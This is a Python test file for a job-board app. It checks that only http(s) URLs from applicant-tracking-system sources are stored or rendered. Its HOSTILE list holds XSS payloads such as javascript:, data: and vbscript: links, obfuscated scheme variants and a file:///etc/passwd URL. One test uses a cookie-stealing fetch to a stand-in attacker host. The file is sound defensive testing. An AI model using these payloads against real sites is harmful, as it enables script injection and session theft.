"""Only http(s) URLs leave a source: a `javascript:` or `data:` link from an ATS is dropped at
the edge (the posting is kept, without the link), so no page ever renders it as a link."""

import pytest

from boards.merge import values_of
from boards.models import Job
from boards.scanning import scan
from boards.sources import Posting
from boards.sources.registry import get_source

from .factories import make_board
from .test_sources_http import GH_JOB, ats, board  # noqa: F401  (ats is a fixture)

HOSTILE = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    "  javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://files.example.com/job",
    "//evil.example/jobs/1",  # scheme-relative
    "https:evil.example",  # no host
    "https://",
    "http://example.com/\x00",
    "java script:alert(1)",
]
SAFE = ["https://jobs.example.com/1", "HTTP://jobs.example.com/2?x=1"]


@pytest.mark.parametrize("url", HOSTILE)
def test_a_posting_drops_a_url_that_is_not_http(url):
    posting = Posting(external_id="1", url=url, title="Engineer")
    assert posting.url == ""
    assert posting.title == "Engineer"


@pytest.mark.parametrize("url", SAFE)
def test_a_posting_keeps_an_http_url(url):
    assert Posting(external_id="1", url=url, title="Engineer").url == url


def test_a_sloppy_href_is_cleaned_as_a_browser_would():
    url = "https://jobs.example.com/open\n  roles/1 "
    assert (
        Posting(external_id="", url=url, title="x").url
        == "https://jobs.example.com/open%20%20roles/1"
    )


@pytest.mark.parametrize("url", HOSTILE)
def test_merge_values_never_carry_a_url_that_is_not_http(url):
    posting = Posting(external_id="1", url="https://ok.example/1", title="Engineer")
    posting.url = url  # set after construction, past __post_init__
    assert values_of(posting)["canonical_url"] == ""


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x"])
def test_an_ats_javascript_url_is_dropped_and_the_posting_kept(ats, url):  # noqa: F811
    ats.route("/v1/boards/acme/jobs", body={"jobs": [{**GH_JOB, "absolute_url": url}]})
    [posting] = get_source("greenhouse").list_postings(board("greenhouse")).postings
    assert posting.url == ""
    assert posting.title == "Senior Backend Engineer"


@pytest.mark.django_db
def test_a_scanned_job_never_stores_a_javascript_url(ats, alice):  # noqa: F811
    hostile = {**GH_JOB, "absolute_url": "javascript:fetch('//evil.example/'+document.cookie)"}
    ats.route("/v1/boards/acme/jobs", body={"jobs": [hostile]})
    scan(make_board(alice, kind="greenhouse", token="acme"))
    job = Job.objects.get(owner=alice)
    assert job.title == "Senior Backend Engineer"
    assert not job.canonical_url.lower().startswith("javascript")
    assert job.canonical_url == ""
